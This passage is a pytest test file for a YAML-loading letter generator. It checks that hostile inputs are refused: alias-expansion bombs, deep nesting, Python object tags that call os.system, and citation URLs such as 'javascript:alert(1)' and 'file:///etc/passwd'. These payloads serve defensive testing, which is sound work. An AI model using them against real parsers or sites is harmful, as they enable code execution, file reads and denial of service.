    assert _yaml("a: &a [x]\n" + "\n".join(lines), tmp_path) == {"LG103"}


def test_a_yaml_list_cannot_hold_itself(tmp_path: Path) -> None:
    assert _yaml("&a [*a]", tmp_path) == {"LG103"}


def test_yaml_aliases_of_one_long_text_are_bounded_as_well(tmp_path: Path) -> None:
    text = f"a: &a {'x' * 100_000}\nb: [{', '.join(['*a'] * 200)}]"
    assert _yaml(text, tmp_path) == {"LG103"}


def test_yaml_merge_keys_are_bounded_as_well(tmp_path: Path) -> None:
    keys = ", ".join(f"k{n}: 1" for n in range(2000))
    text = f"a: &a {{{keys}}}\nb: {{<<: [{', '.join(['*a'] * 2000)}]}}"
    assert _yaml(text, tmp_path) == {"LG103"}


@pytest.mark.parametrize("text", ["[" * 200_000, "- " * 20_000 + "x", "{a: " * 20_000])
def test_yaml_nested_without_end_is_a_finding_and_no_crash(text: str, tmp_path: Path) -> None:
    """libyaml's recursion takes the whole interpreter down: in a process of its own."""
    path = tmp_path / "deep.yaml"
    path.write_text(text, encoding="utf-8")
    code = (
        "import sys\nfrom pathlib import Path\nfrom lettergen.data import yaml as source\n"
        "try:\n    source.load(Path(sys.argv[1]))\n"
        "except source.LettergenError as error:\n    print(error.findings[0].code)\n"
    )
    command = [sys.executable, "-c", code, str(path)]
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    assert (done.returncode, done.stdout) == (0, "LG101\n")


@pytest.mark.parametrize(
    "tag",
    [
        "!!python/object/apply:os.system [id]",
        "!!python/object/new:os.system [id]",
        "!!python/name:os.system ''",
        "!!python/module:os ''",
        "!!python/object:object {}",
    ],
)
def test_yaml_makes_no_python_objects(tag: str, tmp_path: Path) -> None:
    assert _yaml(tag, tmp_path) == {"LG107"}


def test_a_file_of_data_that_is_too_large_is_not_read(tmp_path: Path) -> None:
    path = tmp_path / "data.yaml"
    with path.open("wb") as file:
        file.truncate(text_file.MAX_BYTES + 1)
    with pytest.raises(LettergenError) as refused:
        source.load(path)
    assert _codes(refused.value) == {"LG108"}


def test_a_markdown_letter_that_is_too_long_is_refused(tmp_path: Path) -> None:
    for text in ("word " * 50_000, "[^a]" * 5000):
        with pytest.raises(LettergenError) as refused:
            letters.compile_text(text, tmp_path)
        assert _codes(refused.value) == {"LG260"}


@pytest.mark.parametrize(
    "url", ["javascript:alert(1)", "file:///etc/passwd", "data:text/html,x", "ftp://x/", "x y"]
)
def test_a_citation_leads_to_the_web_only(url: str, tmp_path: Path) -> None:
    path = tmp_path / "citations.yaml"
    path.write_text(f'references:\n- {{id: a, title: A, URL: "{url}"}}\n', encoding="utf-8")
    with pytest.raises(LettergenError) as refused:
        citations.load(path)
    assert _codes(refused.value) == {"LG136"}
